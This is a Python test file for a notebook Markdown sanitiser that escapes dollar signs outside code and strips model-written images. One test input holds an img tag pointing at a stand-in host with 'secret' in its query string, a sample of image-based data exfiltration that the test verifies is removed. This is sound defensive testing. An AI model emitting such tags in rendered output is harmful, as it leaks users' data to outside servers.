"""Answers as notebook Markdown (kernel/markdown.py): dollars are text, images never load, code is untouched."""

from penny_jupyter.kernel.markdown import notebook_markdown


def test_every_dollar_outside_code_is_escaped_once():
    text = "**Revenue** $1.05M, ▲ 2.8% — **MRR** $27.08M; already \\$5"
    assert notebook_markdown(text) == "**Revenue** \\$1.05M, ▲ 2.8% — **MRR** \\$27.08M; already \\$5"


def test_code_keeps_its_dollars():
    text = "Cost $3 in `echo $HOME` and\n```bash\nexport A=$B\n```\nthen $4"
    assert notebook_markdown(text) == "Cost \\$3 in `echo $HOME` and\n```bash\nexport A=$B\n```\nthen \\$4"


def test_images_a_model_wrote_become_their_alt_text():
    text = 'See ![the dashboard](dashboard_art_1.png) and <img src="http://x.example/?q=secret"> `![kept](x)`'
    assert notebook_markdown(text) == "See the dashboard and  `![kept](x)`"
